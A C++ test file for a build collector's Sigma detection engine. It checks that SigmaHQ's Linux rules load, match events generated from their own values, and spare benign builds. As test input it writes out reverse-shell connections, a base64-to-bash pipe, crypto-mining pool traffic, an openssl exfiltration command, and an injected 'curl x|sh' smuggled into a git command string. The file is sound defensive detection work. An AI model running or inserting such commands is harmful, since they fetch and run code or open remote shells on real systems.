// Acceptance of issue 19 over SigmaHQ's Linux rules (tests/detect/sigma-rules,
// DRL 1.1): every rule loads or is rejected for a reason naming a field or
// modifier we do not have (docs/detection.md lists them), with exact
// counts; and for every rule whose values allow it, a positive event built
// from the rule's own values matches and a benign one does not. A few
// hand-written events go through the adapter from our real Event structs.
#include <doctest/doctest.h>
#include <yaml-cpp/yaml.h>

#include <filesystem>
#include <map>
#include <set>
#include <string>

#include "collector/detect/sigma/event_fields.h"
#include "collector/detect/sigma/load.h"
#include "collector/detect/sigma/match.h"
#include "collector/detect/sigma/prefilter.h"
#include "common/fs.h"
#include "tests/common/test_util.h"
#include "tests/detect/sigma_fields.h"

using namespace bt::collector::detect::sigma;
using bt::testing::MapFields;

namespace {

std::string rules_dir() { return bt::testing::env_or("BUILDTRAIL_SRC", ".") + "/tests/detect/sigma-rules"; }

const RuleSet& sigmahq() {
  static const RuleSet set = [] {
    auto s = load_directory(rules_dir(), builtin_pipeline());
    REQUIRE(s);
    return std::move(*s);
  }();
  return set;
}

// Sigma wildcard value -> one literal string it matches: `*` as nothing,
// `?` as one letter, escapes undone.
std::string literal(const std::string& v) {
  std::string out;
  for (std::size_t i = 0; i < v.size(); ++i) {
    if (v[i] == '\\' && i + 1 < v.size() && (v[i + 1] == '*' || v[i + 1] == '?' || v[i + 1] == '\\')) {
      out += v[++i];
    } else if (v[i] == '*') {
    } else if (v[i] == '?') {
      out += 'q';
    } else {
      out += v[i];
    }
  }
  return out;
}

// One detection item (`field|mods: values`) -> values for our field that
// satisfy it; false when the item cannot be generated (re, null, ...).
bool generate_item(const std::string& key, const YAML::Node& vals, const DetectionItem& item, MapFields& f) {
  std::vector<std::string> mods;
  std::size_t bar = key.find('|');
  while (bar != std::string::npos) {
    const std::size_t next = key.find('|', bar + 1);
    mods.push_back(key.substr(bar + 1, next == std::string::npos ? std::string::npos : next - bar - 1));
    bar = next;
  }
  std::vector<std::string> values;
  if (vals.IsSequence()) {
    for (const auto& v : vals) {
      if (!v.IsScalar()) return false;
      values.push_back(v.Scalar());
    }
  } else if (vals.IsScalar()) {
    values.push_back(vals.Scalar());
  } else {
    return false;
  }
  const bool all = std::find(mods.begin(), mods.end(), "all") != mods.end();
  std::string form = "equals";
  for (const auto& m : mods) {
    if (m == "contains" || m == "startswith" || m == "endswith" || m == "cidr")
      form = m;
    else if (m != "all")
      return false;  // re, base64...: not generated
  }
  if (item.fields.empty()) return false;
  auto make = [&](const std::string& v) {
    const std::string l = literal(v);
    if (form == "contains") return "pre " + l + " post";
    if (form == "startswith") return l + "tail";
    if (form == "endswith") return "/gen/dir" + l;
    if (form == "cidr") return v.substr(0, v.find('/'));
    return l;
  };
  auto& target = f.m[item.fields.front()];
  if (all && form == "contains") {
    std::string joined = "pre";
    for (const auto& v : values) joined += " " + literal(v);
    target.push_back(joined + " post");
  } else if (all) {
    for (const auto& v : values) target.push_back(make(v));
  } else {
    target.push_back(make(values.front()));
  }
  return true;
}

bool generate_search(const YAML::Node& detection, const Rule& rule, const std::string& name, MapFields& f) {
  const YAML::Node node = detection[name];
  const auto& det = rule.searches.detections.at(name);
  YAML::Node group = node.IsSequence() ? node[0] : node;
  if (node.IsSequence() && !node[0].IsMap()) {  // keywords: one of them in the first field
    return generate_item("|contains", YAML::Node(node[0]), det.any_of[0][0], f);
  }
  std::size_t i = 0;
  for (const auto& kv : group) {
    if (!generate_item(kv.first.Scalar(), kv.second, det.any_of[0][i++], f)) return false;
  }
  return true;
}

// Sets fields so that `c` holds (when `want`), leaving negated searches
// unset. False when some part cannot be generated.
bool generate(const Condition& c, bool want, const YAML::Node& detection, const Rule& rule, MapFields& f) {
  switch (c.op) {
    case Condition::Op::kRef:
      return !want || generate_search(detection, rule, c.ref, f);
    case Condition::Op::kNot:
      return generate(*c.children[0], !want, detection, rule, f);
    case Condition::Op::kAnd:
      if (!want) return true;
      for (const auto& ch : c.children)
        if (!generate(*ch, true, detection, rule, f)) return false;
      return true;
    case Condition::Op::kOr:
      return !want || generate(*c.children[0], true, detection, rule, f);
    case Condition::Op::kOf: {
      if (!want) return true;
      const std::size_t n = c.need == 0 ? c.of.size() : c.need;
      for (std::size_t i = 0; i < n && i < c.of.size(); ++i)
        if (!generate_search(detection, rule, c.of[i], f)) return false;
      return true;
    }
  }
  return false;
}

// An event of the rule's kind whose every mapped field holds a harmless value.
MapFields benign(const Rule& rule) {
  MapFields f;
  f.k = rule.kinds.front();
  for (const auto& [_, ours] : rule.fields)
    for (const auto& o : ours) f.m[o] = {o.find("Ip") != std::string::npos ? "192.0.2.1" : "zz-benign-9"};
  f.m["process.exe"] = {"/usr/bin/make"};
  f.m["derived.command_line"] = {"make -j8 all"};
  f.m["data.daddr"] = {"192.0.2.1"};
  f.m["data.dport"] = {"443"};
  f.m["data.path"] = {"/home/build/src/main.c"};
  return f;
}

std::string category_of(const std::string& file) {
  for (const char* c : {"process_creation", "network_connection", "file_event"})
    if (file.find(c) != std::string::npos) return c;
  return "?";
}

}  // namespace

TEST_CASE("SigmaHQ Linux rules: every one loads or is rejected for a field or modifier we do not have") {
  const RuleSet& set = sigmahq();
  std::map<std::string, int> loaded, rejected;
  for (const auto& r : set.rules) ++loaded[r.logsource.category];
  for (const auto& r : set.rejected) {
    ++rejected[category_of(r.file)];
    INFO(r.file, ": ", r.reason);
    CHECK((r.reason.find("field '") == 0 || r.reason.find("modifier '") != std::string::npos));
  }
  CHECK(set.rules.size() + set.rejected.size() == 167);
  CHECK(loaded["process_creation"] == 142);
  CHECK(rejected["process_creation"] == 2);
  CHECK(loaded["network_connection"] == 5);
  CHECK(rejected["network_connection"] == 0);
  CHECK(loaded["file_event"] == 18);
  CHECK(rejected["file_event"] == 0);
  // the two: OMIGOD rules testing LogonId, which has no meaning on our events
  std::set<std::string> reasons;
  for (const auto& r : set.rejected) reasons.insert(r.reason);
  CHECK(reasons == std::set<std::string>{"field 'LogonId' is not mapped for this logsource"});
  CHECK(set.filters.empty());
  CHECK(set.correlations.empty());
}

TEST_CASE("SigmaHQ Linux rules: a positive from each rule's own values matches, a benign event does not") {
  const RuleSet& set = sigmahq();
  const Prefilter prefilter(set.rules);
  std::vector<const Rule*> all;
  for (const auto& rule : set.rules) all.push_back(&rule);
  // The rule index the detector uses must offer every rule that matches.
  const RuleIndex index(all, prefilter);
  MESSAGE(index.always(), " of ", all.size(), " rules need no literal: always evaluated");
  CHECK(index.always() < all.size() / 4);
  std::vector<char> offered;
  std::size_t positives = 0, negatives = 0, skipped = 0, rule_no = 0, offered_negatives = 0;
  for (const auto& rule : set.rules) {
    const std::size_t i = rule_no++;
    const YAML::Node doc = YAML::LoadFile(rule.file);
    MapFields pos;
    pos.k = rule.kinds.front();
    if (!generate(*rule.condition, true, doc["detection"], rule, pos)) {
      ++skipped;
      continue;
    }
    INFO(rule.file);
    CHECK(matches(rule, pos));
    // The same answers through the literal prefilter the detector uses.
    CHECK(matches(rule, CachedFields(pos, &prefilter)));
    index.candidates(CachedFields(pos, &prefilter), offered);
    CHECK(offered[i]);
    ++positives;
    const auto negative = benign(rule);
    CHECK(!matches(rule, negative));
    CHECK(!matches(rule, CachedFields(negative, &prefilter)));
    index.candidates(CachedFields(negative, &prefilter), offered);
    offered_negatives += offered[i];
    ++negatives;
  }
  MESSAGE("generated ", positives, " positives and ", negatives, " negatives; ", skipped, " rules not generated; ",
          offered_negatives, " negatives offered by the index");
  CHECK(offered_negatives < negatives);  // the index does leave rules out
  CHECK(positives >= 30);
  CHECK(positives + skipped == set.rules.size());
}

namespace {

const Rule& by_title(const std::string& title) {
  for (const auto& r : sigmahq().rules)
    if (r.title == title) return r;
  FAIL("no rule titled ", title);
  return sigmahq().rules.front();
}

bt::events::Event exec_event(const std::string& exe, std::vector<std::string> argv) {
  bt::events::Event e;
  e.process.exe = exe;
  e.process.parent_key = "1-1";
  bt::events::ProcessExec x;
  x.argv = std::move(argv);
  x.cwd = "/home/build/w";
  e.body = x;
  return e;
}

}  // namespace

TEST_CASE("hand-written events through the adapter from our Event structs") {
  {
    const Rule& r = by_title("Linux Reverse Shell Indicator");
    bt::events::Event e;
    e.process.exe = "/usr/bin/bash";
    bt::events::NetConnect n;
    n.protocol = "tcp";
    n.daddr = "10.0.0.1";
    n.dport = 4242;
    e.body = n;
    CHECK(matches(r, EventFields(e)));
    std::get<bt::events::NetConnect>(e.body).daddr = "127.0.0.1";
    CHECK(!matches(r, EventFields(e)));
  }
  {
    const Rule& r = by_title("Linux Base64 Encoded Pipe to Shell");
    CHECK(matches(r, EventFields(exec_event("/usr/bin/bash", {"bash", "-c", "echo ZWNobyBoaQ== | base64 -d | bash"}))));
    CHECK(!matches(r, EventFields(exec_event("/usr/bin/bash", {"bash", "-c", "echo hi | bash"}))));
  }
  {
    const Rule& r = by_title("Linux Crypto Mining Pool Connections");
    bt::events::Event e;
    e.process.exe = "/tmp/xmrig";
    bt::events::NetConnect n;
    n.daddr = "203.0.113.9";
    n.dport = 3333;
    n.dns_name = "pool.supportxmr.com";
    e.body = n;
    CHECK(matches(r, EventFields(e)));
    std::get<bt::events::NetConnect>(e.body).dns_name = "registry.npmjs.org";
    CHECK(!matches(r, EventFields(e)));
  }
}

TEST_CASE("buildtrail-collector rules check prints each rule and a summary") {
  const std::string exe = bt::testing::build_path("collector/buildtrail-collector");
  auto r = bt::testing::run_command(exe + " rules check " + rules_dir());
  CHECK(r.exit_code == 0);
  CHECK(r.output.find("loaded    " + rules_dir() + "/rules/linux/network_connection/") != std::string::npos);
  CHECK(r.output.find("OMIGOD SCX RunAsProvider ExecuteScript: field 'LogonId' is not mapped for this logsource\n") !=
        std::string::npos);
  CHECK(r.output.find("165 rules, 0 filters, 0 correlations loaded; 2 rejected\n") != std::string::npos);
  std::size_t parent = 0;
  for (std::size_t at = 0;
       (at = r.output.find("(reads the parent: needs the process table)\n", at)) != std::string::npos; ++at)
    ++parent;
  CHECK(parent == 20);
  CHECK(bt::testing::run_command(exe + " rules check " + rules_dir() + " --strict --quiet").exit_code == 1);
  CHECK(bt::testing::run_command(exe + " rules check /nonexistent-h19").exit_code == 1);
  CHECK(bt::testing::run_command(exe + " rules list").exit_code == 2);
}

TEST_CASE("hand-written events for SigmaHQ rules whose values are regexes") {
  {
    const Rule& r = by_title("Python Path Configuration File Creation - Linux");
    bt::events::Event e;
    bt::events::FileWrite w;
    w.operation = "create";
    w.path = "/usr/lib/python3.11/site-packages/litellm_init.pth";
    e.body = w;
    CHECK(matches(r, EventFields(e)));
    std::get<bt::events::FileWrite>(e.body).path = "/usr/lib/python3.11/site-packages/litellm/__init__.py";
    CHECK(!matches(r, EventFields(e)));
    std::get<bt::events::FileWrite>(e.body).path = "/usr/lib/python2.7/site-packages/x.pth";
    CHECK(!matches(r, EventFields(e)));
  }
  {
    const Rule& r = by_title("UNC4841 - SSL Certificate Exfiltration Via Openssl");
    CHECK(matches(r, EventFields(exec_event("/usr/bin/openssl",
                                            {"openssl", "s_client", "-quiet", "-connect", "203.0.113.7:443"}))));
    CHECK(!matches(r, EventFields(exec_event("/usr/bin/openssl",
                                             {"openssl", "s_client", "-quiet", "-connect", "example.com:443"}))));
  }
  {
    const Rule& r = by_title("Potential Container Discovery Via Inodes Listing");
    CHECK(matches(r, EventFields(exec_event("/usr/bin/ls", {"ls", "-lid", "/"}))));
    CHECK(!matches(r, EventFields(exec_event("/usr/bin/ls", {"ls", "-l", "/"}))));
  }
  {
    const Rule& r = by_title("Pnscan Binary Data Transmission Activity");
    CHECK(matches(r, EventFields(exec_event("/usr/bin/pnscan", {"pnscan", "-W", "\"2a 31 0d 0a\"", "10.0.0.0/24"}))));
    CHECK(!matches(r, EventFields(exec_event("/usr/bin/pnscan", {"pnscan", "-w", "10.0.0.0/24"}))));
  }
}

TEST_CASE("the literal prefilter gives the engine's answers, also where RE2 folds bytes beyond ASCII") {
  RuleSet set;
  // Patterns are Latin-1 (argv need not be UTF-8): RE2 folds byte 0xC3
  // (A tilde) with 0xE3 (a tilde), which an ASCII fold does not.
  load_text(
      "title: fold\n"
      "id: 5e1e0000-0000-4000-8000-000000000001\n"
      "logsource: {product: linux, category: process_creation}\n"
      "detection:\n"
      "  selection:\n"
      "    CommandLine|contains: 'kub\xc3\x83"
      "ctl'\n"
      "  condition: selection\n"
      "level: low\n",
      "fold.yml", builtin_pipeline(), set);
  finish(set);
  REQUIRE(set.rules.size() == 1);
  const Prefilter prefilter(set.rules);
  const Rule& r = set.rules[0];
  for (const std::string& word : {std::string("KUB\xe3\x83"
                                              "CTL"),
                                  std::string("kub\xc3\x83"
                                              "ctl"),
                                  std::string("kubectl"),
                                  std::string("\xe2\x84\xaaub\xc3\x83"
                                              "ctl")}) {
    const auto e = exec_event("/usr/bin/x", {word, "get"});
    CAPTURE(word);
    CHECK(matches(r, CachedFields(EventFields(e), &prefilter)) == matches(r, EventFields(e)));
  }
  CHECK(matches(r, CachedFields(EventFields(exec_event("/usr/bin/x", {"KUB\xe3\x83"
                                                                      "CTL"})),
                                &prefilter)));
  CHECK(!matches(r, CachedFields(EventFields(exec_event("/usr/bin/x", {"kubectl"})), &prefilter)));
}

TEST_CASE("our filters for SigmaHQ rules (collector/detect/sigmahq-filters) leave out the benign build only") {
  // Loaded with SigmaHQ's rules in one set, as `serve --rules A --rules B` does.
  RuleSet set;
  const std::string src = bt::testing::env_or("BUILDTRAIL_SRC", ".");
  std::vector<std::string> files;
  for (const std::string& dir : {rules_dir(), src + "/collector/detect/sigmahq-filters"})
    for (const auto& entry : std::filesystem::recursive_directory_iterator(dir))
      if (entry.path().extension() == ".yml") files.push_back(entry.path().string());
  for (const auto& file : files) load_text(bt::fs::read_file(file, 1 << 20).value(), file, builtin_pipeline(), set);
  finish(set);
  CHECK(set.filters.size() == 3);
  for (const auto& r : set.rejected) CHECK_MESSAGE(r.file.find("sigmahq-filters") == std::string::npos, r.reason);
  auto rule = [&](const std::string& id) -> const Rule& {
    for (const auto& r : set.rules)
      if (r.id == id) return r;
    FAIL("no rule ", id);
    return set.rules.front();
  };
  // The process table: the parent (git), and the writers of programs.
  const auto table = [](std::string_view key) -> std::optional<ProcessInfo> {
    if (key == "1-1") return ProcessInfo{"/usr/bin/git", {"git", "clone", "file:///tmp/r.git"}, 0, {}};
    if (key == "2-1") return ProcessInfo{"/usr/bin/x86_64-linux-gnu-ld.bfd", {"/usr/bin/ld"}, 0, {}};
    if (key == "3-1") return ProcessInfo{"/usr/bin/curl", {"curl", "-o", "/tmp/x"}, 0, {}};
    return std::nullopt;
  };
  auto written_by = [](bt::events::Event e, const std::string& key) {
    std::get<bt::events::ProcessExec>(e.body).written_by = key;
    return e;
  };
  {
    const Rule& r = rule("312b42b1-bded-4441-8b58-163a3af58775");  // Execution From Tmp Folder
    const auto conftest = exec_event("/tmp/ws/build/conftest", {"./conftest"});
    CHECK(!matches(r, EventFields(written_by(conftest, "2-1"), table)));
    CHECK(matches(r, EventFields(written_by(conftest, "3-1"), table)));
    CHECK(matches(r, EventFields(conftest, table)));
  }
  {
    const Rule& r = rule("30bcce26-51c5-49f2-99c8-7b59e3af36c7");  // shell -c with /tmp/
    const std::string upload = "git-upload-pack '/tmp/ci/r.git'";
    CHECK(!matches(r, EventFields(exec_event("/usr/bin/dash", {"/bin/sh", "-c", upload, upload}), table)));
    const std::string evil = "git-upload-pack '/tmp/ci/r.git'; curl x|sh; '";
    CHECK(matches(r, EventFields(exec_event("/usr/bin/dash", {"/bin/sh", "-c", evil, upload}), table)));
    CHECK(matches(r, EventFields(exec_event("/usr/bin/dash", {"/bin/sh", "-c", "/tmp/x"}), table)));
  }
  {
    const Rule& r = rule("86157017-c2b1-4d4a-8c33-93b8e67e4af4");  // sensitive file change
    const std::string program =
        "\n\n:t\n/@[a-zA-Z_][a-zA-Z_0-9]*@/!b\ns|@configure_input@|Makefile.  Generated from Makefile.in by "
        "configure.|;t t\ns&@INSTALL@&/usr/bin/install -c&;t t\n";
    CHECK(!matches(r, EventFields(exec_event("/usr/bin/sed", {"sed", program}), table)));
    CHECK(matches(r, EventFields(exec_event("/usr/bin/sed", {"sed", "-i", "s/a/b/", "/usr/bin/x"}), table)));
  }
}
